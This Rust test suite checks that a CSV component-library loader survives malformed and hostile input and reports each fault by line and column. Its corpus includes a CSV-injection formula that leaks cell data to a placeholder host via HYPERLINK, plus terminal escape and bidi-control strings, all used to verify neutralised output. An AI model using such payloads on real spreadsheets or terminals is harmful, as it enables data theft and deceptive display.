//! The malformed-library corpus: every file of `tests/corpus/` (committed, small) and the large
//! ones generated here (a 10 MB cell, 200 000 columns, endless input, more rows than the
//! limit). For each: no panic; what is good loads; what is not is reported with the file, the
//! line (as a spreadsheet numbers it, the header is line 1) and the column; time and memory stay
//! bounded by `loadfit::library::limits`.
//!
//! `cargo test --test corpus`; the run at the real row limit is ignored by default:
//! `cargo test --release --test corpus -- --ignored`.

use loadfit::library::{Diagnostic, Library, LoadError, limits, lint};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn corpus_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus")
}

/// A diagnostic expected: its line, its column (empty for a whole-row problem) and words of
/// its message.
type Expected = (u32, &'static str, &'static str);

/// What a corpus file must give.
enum Expect {
    /// The file loads: exactly these parts, exactly these rejected (line, column) pairs with
    /// words of their messages, and at least these warnings.
    Loads {
        parts: &'static [&'static str],
        rejected: &'static [Expected],
        warnings: &'static [Expected],
    },
    /// Garbage after a good header: the good parts load, every other row is rejected.
    Garbage { parts: &'static [&'static str] },
    /// The whole file is refused, with an error naming it and saying this.
    Refused(&'static str),
}

use Expect::{Garbage, Loads, Refused};

const NONE: &[Expected] = &[];

/// Every committed corpus file and what it must give. `every_corpus_file_is_listed` keeps this
/// table and the folder in step.
const CASES: &[(&str, Expect)] = &[
    (
        "01-truncated-quote.csv",
        Loads {
            parts: &["CXN100"],
            rejected: &[(3, "package", "a quote may be left open")],
            warnings: NONE,
        },
    ),
    (
        "02-quote-open-midfile.csv",
        Loads {
            parts: &["CXN100"],
            rejected: &[(3, "package", "quote opened in this cell is not closed")],
            warnings: NONE,
        },
    ),
    (
        "03-ragged-rows.csv",
        Loads {
            parts: &["CXN100", "CXN107"],
            rejected: &[
                (3, "", "the row has 3 fields, the header has 6"),
                (4, "", "the row has 8 fields, the header has 6"),
            ],
            warnings: NONE,
        },
    ),
    (
        "04-nul-bytes.csv",
        Loads {
            parts: &["CXN100", "CXN1\u{0}08", "CXN110"],
            rejected: &[
                (4, "vceo", "is not a number"),
                (5, "", "the row has 1 field,"),
            ],
            warnings: NONE,
        },
    ),
    ("05-binary-garbage.csv", Garbage { parts: &["CXN100"] }),
    ("06-binary-only.csv", Refused("no `part` column")),
    (
        "07-wrong-units.csv",
        Loads {
            parts: &["CXN100"],
            rejected: &[
                (3, "vceo", "is a current, expected a voltage"),
                (4, "ic_max", "is a voltage, expected a current"),
                (5, "vceo", "is an illuminance, expected a voltage"),
                (6, "vceo", "unknown unit or prefix \"parsec\""),
                (7, "vceo", "unknown unit or prefix \"k7\""),
                (8, "vceo", "unknown unit or prefix \"VV\""),
                (9, "vceo", "is not a number"),
                (10, "vceo", "is not a number"),
                (11, "vceo", "is not a number"),
                (12, "hfe_min", "is a current, expected a plain number"),
                (13, "vceo", "is a capacitance"),
                (13, "ic_max", "is a resistance"),
                (13, "hfe_min", "is a percentage"),
                (14, "vceo", "is not a number"),
                (14, "ic_max", "is not a number"),
                (14, "hfe_min", "is not a number"),
            ],
            warnings: NONE,
        },
    ),
    (
        // Formula text is data: it loads as is, and every export neutralises it (see
        // `formula_cells_load_as_text_and_leave_exports_neutralised`).
        "08-formula-cells.csv",
        Loads {
            parts: &[
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
                "+CXN123",
                "@CXN124",
                "-CXN125",
            ],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    (
        "09-windows-1252.csv",
        Loads {
            parts: &["CXD200", "CXD201"],
            rejected: NONE,
            warnings: &[(2, "notes", "read as Windows-1252")],
        },
    ),
    (
        "10-utf16le-bom.csv",
        Loads {
            parts: &["CXZ300", "CXZ301"],
            rejected: NONE,
            warnings: &[(1, "", "UTF-16LE")],
        },
    ),
    (
        "11-utf16be-bom.csv",
        Loads {
            parts: &["CXZ300", "CXZ301"],
            rejected: NONE,
            warnings: &[(1, "", "UTF-16BE")],
        },
    ),
    (
        "12-utf16le-no-bom.csv",
        Loads {
            parts: &["CXZ300", "CXZ301"],
            rejected: NONE,
            warnings: &[(1, "", "without a byte-order mark")],
        },
    ),
    (
        "13-mixed-line-endings.csv",
        Loads {
            parts: &["CXN130", "CXN131", "CXN132", "CXN133", "CXN134"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    (
        "14-cr-only.csv",
        Loads {
            parts: &["CXN140", "CXN141", "CXN142"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    (
        "15-header-repeated.csv",
        Loads {
            parts: &["CXN100", "CXN150"],
            rejected: NONE,
            warnings: &[
                (3, "", "the header is repeated here"),
                (5, "", "the header is repeated here"),
            ],
        },
    ),
    (
        "16-duplicate-parts.csv",
        Loads {
            parts: &["CXN100", "CXN151"],
            rejected: &[
                (
                    3,
                    "part",
                    "16-duplicate-parts.csv:2; part numbers must be unique",
                ),
                (
                    4,
                    "part",
                    "16-duplicate-parts.csv:2; part numbers must be unique",
                ),
                (
                    5,
                    "part",
                    "16-duplicate-parts.csv:2; part numbers must be unique",
                ),
            ],
            warnings: NONE,
        },
    ),
    (
        "17-negative-ratings-every-kind.csv",
        Loads {
            parts: &[
                "CXK400", "CXK401", "CXK402", "CXK403", "CXK404", "CXK405", "CXK406", "CXK407",
                "CXK408",
            ],
            rejected: NONE,
            warnings: &[
                (2, "price", "is negative"),
                (2, "vceo", "is negative"),
                (4, "vds", "is negative"),
                (6, "vrrm", "is negative"),
                (8, "vz", "is negative"),
                (9, "coil_r", "is negative"),
                (9, "impulse_v", "is negative"),
                (10, "r_10lux", "is negative"),
                (10, "decay_ms", "is negative"),
            ],
        },
    ),
    (
        "18-nan-inf-1e400.csv",
        Loads {
            parts: &["CXN185", "CXN189"],
            rejected: &[
                (2, "vceo", "is not a finite value"),
                (3, "vceo", "is not a finite value"),
                (4, "ic_max", "is not a finite value"),
                (5, "vceo", "is out of range"),
                (6, "ic_max", "is out of range"),
                (8, "vceo", "is not a finite value"),
                (9, "hfe_min", "is not a finite value"),
                (10, "vceo", "is out of range"),
            ],
            warnings: NONE,
        },
    ),
    (
        "19-bom-in-the-middle.csv",
        Loads {
            parts: &["CXN190", "CXN192"],
            rejected: &[(3, "vceo", "is not a number")],
            warnings: &[(4, "", "the header is repeated here")],
        },
    ),
    (
        "20-empty-header-cells.csv",
        Loads {
            parts: &["CXN200", "CXN201"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    ("21-only-commas.csv", Refused("the file is empty")),
    (
        "22-header-only.csv",
        Loads {
            parts: &[],
            rejected: NONE,
            warnings: &[(1, "", "a header and no rows")],
        },
    ),
    ("23-empty.csv", Refused("the file is empty")),
    ("24-blank-lines-only.csv", Refused("the file is empty")),
    ("25-no-part-column.csv", Refused("no `part` column")),
    ("26-no-kind-column.csv", Refused("no `kind` column")),
    (
        "27-unknown-kinds.csv",
        Loads {
            parts: &["CXN270", "CXN273", "CXN274"],
            rejected: &[
                (3, "kind", "unknown kind \"transistor\""),
                (4, "kind", "the kind is empty"),
            ],
            warnings: NONE,
        },
    ),
    (
        "28-stray-quotes.csv",
        Loads {
            parts: &["CXN280", "CX\"N281", "CXN282", "CXN283"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    (
        // ECMA-48 control sequences, C1 controls and Unicode bidi controls are data here; what
        // matters is that no output path shows them raw (tests/terminal_safety.rs).
        "29-terminal-escapes.csv",
        Loads {
            parts: &["CXN290\u{1b}[2J", "CXN291\u{202e}29-OT", "CXN292"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    (
        "30-implausible-values.csv",
        Loads {
            parts: &["CXN300", "CXK301", "CXN302"],
            rejected: NONE,
            warnings: &[
                (2, "hfe_min", "implausible"),
                (2, "vce_sat", "is not below VCEO"),
                (3, "must_operate_v", "above the rated coil voltage"),
            ],
        },
    ),
    (
        "31-header-units.csv",
        Loads {
            parts: &["CXN310"],
            rejected: NONE,
            warnings: &[(1, "vceo (mA)", "does not fit"), (1, "ic_max ((A))", "")],
        },
    ),
    (
        "32-invalid-utf8-midfile.csv",
        Loads {
            parts: &["CXN320", "CXN321", "CXN322"],
            rejected: NONE,
            warnings: &[(3, "notes", "not UTF-8")],
        },
    ),
    (
        "33-truncated-last-row.csv",
        Loads {
            parts: &["CXN100"],
            rejected: &[(3, "", "the row has 3 fields, the header has 6")],
            warnings: NONE,
        },
    ),
    (
        "34-trailing-delimiters.csv",
        Loads {
            parts: &[],
            rejected: &[
                (2, "", "the row has 4 fields, the header has 3"),
                (3, "", "the row has 4 fields, the header has 3"),
            ],
            warnings: NONE,
        },
    ),
    (
        "35-bad-stock-price-rohs.csv",
        Loads {
            parts: &["CXN350", "CXN356"],
            rejected: &[
                (3, "price", "is not a price"),
                (4, "stock", "is not a whole number"),
                (5, "stock", "is not a whole number"),
                (6, "rohs", "is not yes or no"),
                (7, "status", "is not a status"),
            ],
            warnings: &[(8, "price", "is negative")],
        },
    ),
    (
        "36-multiline-notes.csv",
        Loads {
            parts: &["CXN360", "CXN361", "CXN362"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    (
        "37-semicolon-decimal-comma.csv",
        Loads {
            parts: &["CXN370", "CXN372"],
            rejected: &[(3, "vceo", "is not a number")],
            warnings: NONE,
        },
    ),
    (
        "38-decimal-comma-in-comma-file.csv",
        Loads {
            parts: &["CXN381"],
            rejected: &[(2, "vceo", "decimal comma only in ;-delimited files")],
            warnings: NONE,
        },
    ),
    (
        "39-odd-header-names.csv",
        Loads {
            parts: &["CXN390"],
            rejected: NONE,
            warnings: NONE,
        },
    ),
    ("40-quote-open-in-header.csv", Refused("no `kind` column")),
];

/// The messages a rejection may carry without a column: problems of the whole row.
const WHOLE_ROW: &[&str] = &[
    "the row has",
    "unreadable row",
    "the library already holds",
    "a row over",
    "the header is repeated",
    "the file",
    "a header and no rows",
];

/// Loads one file, failing the test (with the file's name) on a panic or a slow load.
fn load_file(path: &Path) -> Result<Library, LoadError> {
    let started = Instant::now();
    let result = std::panic::catch_unwind(|| Library::load(&[path]))
        .unwrap_or_else(|_| panic!("{}: loading panicked", path.display()));
    let took = started.elapsed();
    assert!(
        took < Duration::from_secs(10),
        "{}: took {took:?}",
        path.display()
    );
    result
}

fn physical_lines(bytes: &[u8]) -> u32 {
    let breaks = bytes
        .iter()
        .enumerate()
        .filter(|&(i, &b)| b == b'\n' || (b == b'\r' && bytes.get(i + 1) != Some(&b'\n')))
        .count();
    u32::try_from(breaks).unwrap_or(u32::MAX) + 1
}

/// What holds for every library read from hostile input: counts add up, and every diagnostic
/// names a file, a line inside it and, unless the whole row is at fault, a column.
fn assert_well_reported(library: &Library, name: &str, lines: u32) {
    assert_eq!(
        library.parts.len() + library.rows_rejected,
        library.rows,
        "{name}: loaded + rejected = rows"
    );
    for d in library.rejected.iter().chain(&library.warnings) {
        let file = &library.files[d.file as usize];
        assert!(file.ends_with(name), "{name}: diagnostic names {file}");
        assert!(
            (1..=lines).contains(&d.line),
            "{name}: line {} outside 1..={lines}: {d:?}",
            d.line
        );
        if d.column.is_empty() {
            assert!(
                WHOLE_ROW.iter().any(|w| d.message.contains(w))
                    || d.message.contains("UTF-16")
                    || d.message.contains("UTF-8"),
                "{name}: a cell problem without its column: {d:?}"
            );
        }
        assert!(d.message.chars().count() <= limits::MAX_MESSAGE_CHARS + 1);
    }
    // The text report names file and line first, as `file:line: column: message`.
    for (line, d) in lint::problem_lines(library).iter().zip(&library.rejected) {
        let prefix = format!("{}:{}: ", library.files[d.file as usize], d.line);
        let prefix = loadfit::text::clean(&prefix);
        assert!(line.starts_with(&*prefix), "{name}: {line}");
    }
}

fn matches(d: &Diagnostic, &(line, column, words): &Expected) -> bool {
    d.line == line && d.column == column && d.message.contains(words)
}

#[test]
fn every_corpus_file_is_listed() {
    let mut on_disk: BTreeSet<String> = std::fs::read_dir(corpus_dir())
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.path().is_file())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    on_disk.remove("README.md");
    on_disk.remove(".gitattributes");
    let listed: BTreeSet<String> = CASES.iter().map(|(f, _)| (*f).to_string()).collect();
    assert_eq!(on_disk, listed, "tests/corpus and CASES differ");
    assert!(listed.len() >= 30, "the issue asks for at least 30 files");
}

#[test]
fn every_corpus_file_loads_what_is_good_and_reports_the_rest() {
    for (name, expect) in CASES {
        let path = corpus_dir().join(name);
        let bytes = std::fs::read(&path).unwrap();
        let result = load_file(&path);
        match expect {
            Refused(words) => {
                let error = result.err().unwrap_or_else(|| panic!("{name}: loaded"));
                let text = error.to_string();
                assert!(text.contains(name), "{name}: error names the file: {text}");
                assert!(text.contains(words), "{name}: {text}");
            }
            Garbage { parts } => {
                let library = result.unwrap_or_else(|e| panic!("{name}: {e}"));
                assert_well_reported(&library, name, physical_lines(&bytes));
                for part in *parts {
                    assert!(library.find(part).is_some(), "{name}: {part} not loaded");
                }
                assert!(library.rows_rejected > 0, "{name}: nothing rejected");
            }
            Loads {
                parts,
                rejected,
                warnings,
            } => {
                let library = result.unwrap_or_else(|e| panic!("{name}: {e}"));
                assert_well_reported(&library, name, physical_lines(&bytes));
                let loaded: Vec<&str> = library.parts.iter().map(|p| &*p.number).collect();
                assert_eq!(&loaded, parts, "{name}: parts loaded");
                for want in *rejected {
                    assert!(
                        library.rejected.iter().any(|d| matches(d, want)),
                        "{name}: no rejection {want:?} in {:#?}",
                        library.rejected
                    );
                }
                for d in &library.rejected {
                    assert!(
                        rejected.iter().any(|want| matches(d, want)),
                        "{name}: unexpected rejection {d:?}"
                    );
                }
                for want in *warnings {
                    assert!(
                        library.warnings.iter().any(|d| matches(d, want)),
                        "{name}: no warning {want:?} in {:#?}",
                        library.warnings
                    );
                }
            }
        }
    }
}

/// The binary on every corpus file: an exit code that means something (0 clean, 1 rows
/// rejected, 2 refused), one line of error, and no panic or backtrace even with
/// `RUST_BACKTRACE=1`.
#[test]
fn lint_on_every_corpus_file_exits_cleanly() {
    for (name, expect) in CASES {
        let path = corpus_dir().join(name);
        for format in ["text", "json"] {
            let output = Command::new(env!("CARGO_BIN_EXE_loadfit"))
                .args(["lint", path.to_str().unwrap(), "--format", format])
                .env("RUST_BACKTRACE", "1")
                .output()
                .unwrap();
            let err = String::from_utf8_lossy(&output.stderr);
            let code = output.status.code();
            assert!(!err.contains("panicked"), "{name}: {err}");
            assert!(!err.contains("backtrace"), "{name}: {err}");
            match expect {
                Refused(_) => {
                    assert_eq!(code, Some(2), "{name}: {err}");
                    assert_eq!(err.lines().count(), 1, "{name}: {err}");
                }
                _ => {
                    assert!(matches!(code, Some(0 | 1)), "{name}: {code:?} {err}");
                    if format == "json" {
                        let doc: serde_json::Value =
                            serde_json::from_slice(&output.stdout).expect("lint JSON parses");
                        for d in doc["rejected"].as_array().unwrap() {
                            assert!(d["file"].as_str().unwrap().ends_with(name));
                            assert!(d["line"].as_u64().unwrap() >= 1);
                            assert!(d["column"].is_string());
                        }
                    }
                }
            }
        }
    }
}

/// Writes a generated file into a fresh folder and loads it.
fn load_generated(name: &str, bytes: &[u8]) -> (tempfile::TempDir, Result<Library, LoadError>) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    let result = load_file(&path);
    (dir, result)
}

#[test]
fn a_ten_megabyte_cell_is_rejected_at_its_line_and_column() {
    let mut text = String::from("part,kind,notes,vceo\nCXN500,npn,fine,40 V\nCXN501,npn,");
    text.push_str(&"x".repeat(10 * 1024 * 1024));
    text.push_str(",40 V\nCXN502,npn,fine,45 V\n");
    let (_dir, result) = load_generated("big-cell.csv", text.as_bytes());
    let library = result.unwrap();
    assert_well_reported(&library, "big-cell.csv", 5);
    assert!(library.find("CXN500").is_some() && library.find("CXN502").is_some());
    assert_eq!(library.rejected.len(), 1);
    let d = &library.rejected[0];
    assert_eq!((d.line, d.column.as_str()), (3, "notes"));
    assert!(d.message.contains("over the limit of 64 KiB"), "{d:?}");
    assert!(d.text.len() < 400, "the diagnostic keeps a short excerpt");
}

#[test]
fn two_hundred_thousand_columns_are_refused_in_the_header_and_rejected_in_a_row() {
    let columns: Vec<String> = (0..200_000).map(|i| format!("c{i}")).collect();
    let text = format!("part,kind,{}\nCXN510,npn\n", columns.join(","));
    let (_dir, result) = load_generated("wide-header.csv", text.as_bytes());
    let error = result.err().unwrap().to_string();
    assert!(error.contains("wide-header.csv"), "{error}");
    assert!(
        error.contains("line 1: 200002 columns, over the limit of 4096"),
        "{error}"
    );

    let ones = vec!["1"; 200_000].join(",");
    let text = format!("part,kind,vceo\nCXN511,npn,40 V\nCXN512,npn,{ones}\nCXN513,npn,45 V\n");
    let (_dir, result) = load_generated("wide-row.csv", text.as_bytes());
    let library = result.unwrap();
    assert_well_reported(&library, "wide-row.csv", 5);
    assert_eq!(library.parts.len(), 2);
    assert_eq!(library.rejected[0].line, 3);
    assert!(library.rejected[0].message.contains("200002 fields"));
}

#[test]
fn an_extremely_long_line_within_the_limits_loads() {
    // 3000 unknown columns of 2 KB each: a 6 MB line, under every limit; every cell is kept.
    let header: Vec<String> = (0..3000).map(|i| format!("extra{i}")).collect();
    let cells: Vec<String> = (0..3000).map(|i| format!("{i:0>2000}")).collect();
    let text = format!(
        "part,kind,{}\nCXN520,npn,{}\nCXN521,npn{}\n",
        header.join(","),
        cells.join(","),
        ",".repeat(3000)
    );
    let (_dir, result) = load_generated("long-line.csv", text.as_bytes());
    let library = result.unwrap();
    assert_well_reported(&library, "long-line.csv", 4);
    let part = library.find("CXN520").unwrap();
    assert_eq!(
        library.extra(part, "extra2999").map(str::len),
        Some(2000),
        "unknown columns are kept"
    );
    assert!(library.find("CXN521").is_some());
}

#[test]
fn a_quote_left_open_in_a_large_file_stops_at_the_row_limit() {
    // A quote opened on line 3 runs to the end of a 40 MB file: the row is cut at
    // `MAX_ROW_BYTES` with a message, the row before it loads.
    let mut text =
        String::from("part,kind,notes,vceo\nCXN530,npn,fine,40 V\nCXN531,npn,\"open,40 V\n");
    let row = "CXN532,npn,swallowed,45 V\n";
    text.push_str(&row.repeat(40 * 1024 * 1024 / row.len()));
    let (_dir, result) = load_generated("open-quote.csv", text.as_bytes());
    let library = result.unwrap();
    assert!(library.find("CXN530").is_some());
    assert_eq!(library.rejected.len(), 1, "{:?}", library.rejected);
    let d = &library.rejected[0];
    assert_eq!(d.line, 3);
    assert!(d.message.contains("a row over 16 MiB"), "{d:?}");
    assert!(
        d.message.contains("the rest of the file is not read"),
        "{d:?}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn endless_input_stops_at_the_row_limit() {
    // /dev/zero: NUL bytes with no line end, for ever. Reading stops at MAX_ROW_BYTES.
    let error = Library::load(&["/dev/zero"]).err().unwrap().to_string();
    assert!(
        error.starts_with("/dev/zero: line 1: a row over 16 MiB"),
        "{error}"
    );
}

/// Runs the binary under an address-space limit (`ulimit -v`, KiB) and a time limit; gives the
/// exit code and stderr. Over the memory limit an allocation fails and the run aborts.
#[cfg(target_os = "linux")]
fn run_bounded(args: &str, memory_kib: u64, seconds: u64) -> (Option<i32>, String) {
    let script = format!(
        "ulimit -v {memory_kib} && exec '{}' {args}",
        env!("CARGO_BIN_EXE_loadfit")
    );
    let mut child = Command::new("sh")
        .args(["-c", &script])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > Duration::from_secs(seconds) {
            let _ = child.kill();
            panic!("`loadfit {args}` ran over {seconds} s");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    (status.code(), err)
}

#[cfg(target_os = "linux")]
#[test]
fn memory_stays_bounded_on_endless_and_runaway_input() {
    // 128 MiB of address space: room for a 16 MiB row, far below what reading /dev/zero
    // without a row limit takes within seconds (it grows for ever), or a 40 MB runaway quote.
    let (code, err) = run_bounded("lint /dev/zero", 128 * 1024, 60);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("a row over 16 MiB"), "{err}");

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("runaway.csv");
    let mut text = String::from("part,kind,notes\nCXN540,npn,fine\nCXN541,npn,\"");
    text.push_str(&"CXN542,npn,swallowed\n".repeat(2_000_000));
    std::fs::write(&path, text).unwrap();
    let (code, err) = run_bounded(&format!("lint '{}'", path.display()), 128 * 1024, 60);
    assert_eq!(code, Some(1), "{err}");
}

/// Regression: reading a stage file checked its size from the file's metadata only, so a
/// device or pipe (length 0) was read without end. Now it stops one byte past the limit.
#[cfg(target_os = "linux")]
#[test]
fn a_stage_file_without_end_stops_at_its_size_limit() {
    let error = loadfit::stage::Stage::read(Path::new("/dev/zero"))
        .err()
        .unwrap()
        .to_string();
    assert!(
        error.starts_with("/dev/zero: over the 1048576-byte limit for a stage file"),
        "{error}"
    );
    let (code, err) = run_bounded("needs /dev/zero", 128 * 1024, 60);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("over the 1048576-byte limit"), "{err}");
}

/// A library whose row limit is lowered, so the limit is tested without millions of rows.
#[test]
fn rows_past_the_row_limit_are_not_read_and_the_message_says_so() {
    let mut text = String::from("part,kind,vceo\n");
    for i in 0..1500 {
        text.push_str(&format!("CXR{i},npn,40 V\n"));
    }
    let mut library = Library::new();
    library.set_row_limit(1000);
    library.add_bytes("many.csv", text.as_bytes()).unwrap();
    assert_eq!(library.parts.len(), 1000);
    assert_eq!(library.rows, 1001);
    assert_eq!(library.rows_rejected, 1);
    let d = &library.rejected[0];
    assert_eq!(d.line, 1002, "the first row not read");
    assert!(
        d.message
            .contains("already holds 1000 rows, the most loadfit reads"),
        "{d:?}"
    );
    assert!(d.message.contains("the rest of the file are not read"));
    // A second file adds nothing and says so at its first row.
    library
        .add_bytes("more.csv", b"part,kind\nCXS1,npn\n")
        .unwrap();
    assert_eq!(library.parts.len(), 1000);
    assert_eq!(library.rejected.last().map(|d| d.line), Some(2));
    // The limit can be lowered, never raised.
    library.set_row_limit(usize::MAX);
    assert_eq!(library.row_limit(), limits::MAX_ROWS);
}

/// Regression: the row-limit message was dropped once a file had given
/// `MAX_DIAGNOSTICS_PER_FILE` diagnostics, so a file of bad rows past the limit ended silently.
#[test]
fn the_row_limit_message_is_kept_past_the_diagnostics_limit() {
    let mut text = String::from("part,kind\n");
    text.push_str(&"x\n".repeat(12_500));
    let mut library = Library::new();
    library.set_row_limit(12_000);
    library.add_bytes("bad.csv", text.as_bytes()).unwrap();
    assert_eq!(library.rows, 12_001);
    assert_eq!(library.rejected.len(), limits::MAX_DIAGNOSTICS_PER_FILE + 1);
    let last = library.rejected.last().unwrap();
    assert_eq!(last.line, 12_002);
    assert!(last.message.contains("the most loadfit reads"), "{last:?}");
}

/// The real limit, with rows that cost no memory (each is rejected on its field count).
/// Ignored by default (a few seconds in release).
#[test]
#[ignore = "long: 5 million rows; run with --release -- --ignored"]
fn the_real_row_limit_holds() {
    let mut text = String::with_capacity(limits::MAX_ROWS * 2 + 64);
    text.push_str("part,kind\n");
    for _ in 0..=limits::MAX_ROWS {
        text.push_str("x\n");
    }
    let mut library = Library::new();
    library.add_bytes("huge.csv", text.as_bytes()).unwrap();
    assert_eq!(library.rows, limits::MAX_ROWS + 1);
    let last = library.rejected.last().unwrap();
    assert!(last.message.contains("the most loadfit reads"), "{last:?}");
    assert_eq!(last.line as usize, limits::MAX_ROWS + 2);
}

#[test]
fn diagnostics_past_the_limit_are_counted_not_kept() {
    let mut text = String::from("part,kind,vceo\n");
    for i in 0..12_000 {
        text.push_str(&format!("CXT{i},npn,4O V\n"));
    }
    let mut library = Library::new();
    library.add_bytes("bad.csv", text.as_bytes()).unwrap();
    assert_eq!(library.rows_rejected, 12_000);
    assert_eq!(library.rejected.len(), limits::MAX_DIAGNOSTICS_PER_FILE);
    let lines = lint::problem_lines(&library);
    assert_eq!(
        lines.last().map(String::as_str),
        Some("… and 2000 more problems not listed (over 10000 per file)")
    );
}

/// Line ends split across the reader's 128 KiB chunks: a CRLF whose CR ends one chunk, a lone
/// CR that ends one, and blank lines there. Every row loads, on the line a spreadsheet shows.
#[test]
fn line_ends_across_read_chunks_keep_rows_and_line_numbers() {
    const CHUNK: usize = 128 * 1024;
    for end in ["\r\n", "\r", "\n", "\r\r\n"] {
        // "\r\r\n" is a lone CR then a CRLF: a blank line after every row.
        let step = if end == "\r\r\n" { 2 } else { 1 };
        for shift in 0..4 {
            // Filler rows, then one whose line end starts at CHUNK - 2 + shift.
            let edge = CHUNK - 2 + shift;
            let mut text = String::from("part,kind,notes");
            text.push_str(end);
            let mut rows = 0;
            while text.len() + 2000 < edge {
                text.push_str(&format!("CXF{rows},npn,{}{end}", "f".repeat(900)));
                rows += 1;
            }
            let start = "CXL0,npn,";
            let pad = edge - text.len() - start.len();
            text.push_str(&format!("{start}{}{end}", "p".repeat(pad)));
            for i in 1..50 {
                text.push_str(&format!("CXL{i},npn,row {i}{end}"));
            }
            rows += 50;
            let mut library = Library::new();
            library.add_bytes("edges.csv", text.as_bytes()).unwrap();
            let what = format!("{end:?} shifted {shift}");
            assert!(
                library.rejected.is_empty(),
                "{what}: {:?}",
                library.rejected
            );
            assert_eq!(library.parts.len(), rows, "{what}");
            let last = library.find("CXL49").unwrap();
            assert_eq!(last.source.line as usize, 1 + rows * step, "{what}");
            assert_eq!(&*library.find("CXL1").unwrap().notes, "row 1", "{what}");
            assert_eq!(library.find("CXL0").unwrap().notes.len(), pad, "{what}");
        }
    }
}

/// OWASP guidance on CSV injection: the formula cells of the corpus load as text, and the CSV
/// the fit writes (the same `csv_cell` as the shortlist) starts none of its cells with `=`,
/// `+`, `-`, `@`, tab or CR unless the cell is a number.
#[test]
fn formula_cells_load_as_text_and_leave_exports_neutralised() {
    let library = Library::load(&[corpus_dir().join("08-formula-cells.csv")]).unwrap();
    let stage = loadfit::stage::Stage::from_toml(
        "[supply]\nvolts = \"12 V\"\n[load]\ntype = \"resistive\"\nresistance = \"100 ohm\"\n[switch]\ntype = \"npn\"\n",
        "formula.toml",
    )
    .unwrap();
    let needs = loadfit::needs::compute(&stage, Some(&library));
    let fit = loadfit::fit::evaluate(&stage, &needs, &library, loadfit::fit::SortKey::Part);
    let csv = loadfit::fit::report::to_csv(&library, &fit, None);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.as_bytes());
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for cell in &record {
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !risky || cell.parse::<f64>().is_ok_and(f64::is_finite),
                "unsafe cell {cell:?}"
            );
        }
    }
    assert_eq!(rows, 4, "every formula part is a candidate: {csv}");
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'+CXN123") && csv.contains("'@CXN124") && csv.contains("'-CXN125"));
}
